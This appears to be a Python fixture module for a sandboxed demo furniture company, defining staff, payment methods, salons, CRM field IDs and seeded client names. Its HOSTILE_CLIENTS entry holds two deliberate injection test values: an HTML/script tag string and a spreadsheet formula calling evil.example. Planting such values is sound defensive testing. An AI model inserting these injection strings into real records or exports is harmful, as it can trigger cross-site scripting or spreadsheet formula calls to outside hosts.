"""The people of the demo company, their clients' names, and how the CRM is mapped.

A seed chooses which client is called what; who works here, and two hostile names, never change.
"""

from dataclasses import dataclass

from sandbox.amocrm import company as crm
from sandbox.bank.company import COMPANY_INN, MERCHANTS
from world.identity import Chance

__all__ = [
    "ACCOUNTANT",
    "CASHIER",
    "COMPANY",
    "HOSTILE_CLIENTS",
    "MERCHANT_OF_SALON",
    "METHOD_WORDS",
    "OWNER",
    "STAFF",
    "Staff",
    "amocrm_settings",
    "client_names",
]

OWNER = "Игорь"
CASHIER = "Ольга"
ACCOUNTANT = "Мария"


@dataclass(frozen=True, slots=True)
class Staff:
    """Somebody with a phone; a manager has a user in the CRM."""

    user_id: int
    name: str
    role_title: str
    crm_user: int | None = None


STAFF = (
    Staff(5001, OWNER, "Собственник"),
    Staff(5002, "Анна", "Менеджер", crm.ANNA_ID),
    Staff(5003, "Борис", "Менеджер", crm.BORIS_ID),
    Staff(5004, "Вера", "Менеджер", crm.VERA_ID),
    Staff(5005, CASHIER, "Кассир"),
    Staff(5006, ACCOUNTANT, "Бухгалтер"),
)

METHOD_WORDS = {
    "cash": "Наличные",
    "card": "Перевод на карту",
    "term": "Терминал",
    "bank": "Безналичный расчёт",
    "cred": "Кредитный договор",
}
_METHODS = {
    "Наличные": "cash",
    "Перевод на карту": "card_transfer",
    "Терминал": "terminal",
    "Безналичный расчёт": "bank_transfer",
    "Кредитный договор": "credit_agreement",
}
_SALONS = ("Центральный", "Северный", "Речной")
MERCHANT_OF_SALON = dict(zip(_SALONS, MERCHANTS, strict=True))

COMPANY = {
    "name": "Уют, салоны мебели",
    "own_inn": COMPANY_INN,
    "merchants": {merchant: salon for salon, merchant in MERCHANT_OF_SALON.items()},
}

# Contract's number -> a name that somebody typed to see what breaks.
HOSTILE_CLIENTS = {
    126: "<b>Жирный</b> & Ко <script>",
    143: '=IMPORTXML("http://evil.example/","//a")',
}

_SURNAMES = [
    "Абрамов",
    "Алексеев",
    "Баранов",
    "Беляев",
    "Богданов",
    "Быков",
    "Виноградов",
    "Волков",
    "Воробьев",
    "Гаврилов",
    "Гусев",
    "Давыдов",
    "Денисов",
    "Дмитриев",
    "Егоров",
    "Ефимов",
    "Жуков",
    "Зайцев",
    "Захаров",
    "Зуев",
    "Исаев",
    "Калинин",
    "Карпов",
    "Киселев",
    "Ковалев",
    "Козлов",
    "Комаров",
    "Королев",
    "Крылов",
    "Кудрявцев",
    "Кузнецов",
    "Лазарев",
    "Лебедев",
    "Макаров",
    "Максимов",
    "Марков",
    "Медведев",
    "Мельников",
    "Миронов",
    "Морозов",
    "Назаров",
    "Никитин",
    "Новиков",
    "Орлов",
    "Осипов",
    "Павлов",
    "Панов",
    "Петров",
    "Поляков",
    "Пономарев",
    "Попов",
    "Рогов",
    "Романов",
    "Рыбаков",
    "Савельев",
    "Семенов",
    "Сергеев",
    "Сидоров",
    "Симонов",
    "Соболев",
    "Соколов",
    "Соловьев",
    "Степанов",
    "Тарасов",
    "Титов",
    "Тихонов",
    "Третьяков",
    "Трофимов",
    "Ушаков",
    "Федоров",
    "Филатов",
    "Фомин",
    "Фролов",
    "Харитонов",
    "Цветков",
    "Чернов",
    "Широков",
    "Щербаков",
    "Юдин",
    "Яковлев",
    "Ярцев",
]
_NAMES = ("Андрей", "Виктор", "Денис", "Евгений", "Ильдар", "Максим", "Николай", "Павел", "Тимур")
_FATHERS = ("Андреевич", "Борисович", "Викторович", "Ильич", "Маратович", "Олегович", "Юрьевич")


def client_names(chance: Chance, numbers: list[int]) -> dict[int, str]:
    """A name for each contract's number: everybody has a surname of their own."""
    surnames = list(_SURNAMES)
    chance.shuffle(surnames)
    assert len(numbers) <= len(surnames)
    names = {
        number: f"{surname} {chance.choice(_NAMES)} {chance.choice(_FATHERS)}"
        for number, surname in zip(numbers, surnames, strict=False)
    }
    return names | HOSTILE_CLIENTS


def amocrm_settings() -> dict[str, object]:
    """The `[amocrm]` part of a configuration but for the address and the token."""
    return {
        "sweep_every_s": 300,
        "slots": [
            {
                "name": "prepayment",
                "amount": crm.PREPAYMENT_AMOUNT_ID,
                "method": crm.PREPAYMENT_METHOD_ID,
                "day": crm.PREPAYMENT_DATE_ID,
            },
            {
                "name": "balance",
                "amount": crm.BALANCE_AMOUNT_ID,
                "method": crm.BALANCE_METHOD_ID,
                "day": crm.BALANCE_DATE_ID,
            },
        ],
        "methods": dict(_METHODS),
        "contract_no": crm.CONTRACT_NUMBER_ID,
        "contract_date": crm.CONTRACT_DATE_ID,
        "client_inn": crm.CLIENT_INN_ID,
        "confirmed_field": crm.CONFIRMED_ID,
        "dimensions": {
            "product": crm.PRODUCT_ID,
            "salon": crm.SALON_ID,
            "city": crm.CITY_ID,
        },
        "pipeline": crm.PIPELINE_ID,
        "confirmed_stage": crm.STAGE_CONFIRMED_ID,
        "from_stages": [crm.STAGE_NEW_ID, crm.STAGE_SIGNED_ID],
        "done_stages": [142],
    }
